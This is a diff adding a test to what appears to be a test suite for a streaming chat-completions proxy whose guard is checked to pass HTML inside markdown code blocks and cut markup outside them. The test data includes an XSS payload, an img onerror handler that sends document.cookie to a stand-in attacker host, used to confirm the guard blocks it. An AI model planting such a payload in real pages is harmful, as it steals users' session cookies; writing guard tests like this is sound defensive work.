@@ -429,6 +429,19 @@ describe("POST /v1/chat/completions with stream: true", () => {
     assert.ok(ends.length > 0);
   });
 
+  it("relays HTML inside a markdown code block whole; the same markup after the block is cut", async () => {
+    const code = '```html\n<button onclick="save()">Save</button>\n<script src="app.js"></script>\n```\n';
+    const answer = `${"Here is the page. ".repeat(100)}\n${code}That is all.`;
+    streams.push(textStream(answer, 5));
+    const e = events((await ask("write me a page")).body);
+    assert.equal(e.error, undefined, JSON.stringify(e.error));
+    assert.equal(e.text, answer);
+    streams.push(textStream(`${code}<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">`, 5));
+    const cut = events((await ask("write me a page")).body);
+    assert.equal(cut.error?.code, "ERR_GUARD_BLOCKED");
+    assert.ok(!cut.text.includes("onerror"), cut.text);
+  });
+
   it("buffers tool calls until complete, then checks them against the tool policies", async () => {
     const call = (name: string, args: string[]) => [
       delta({
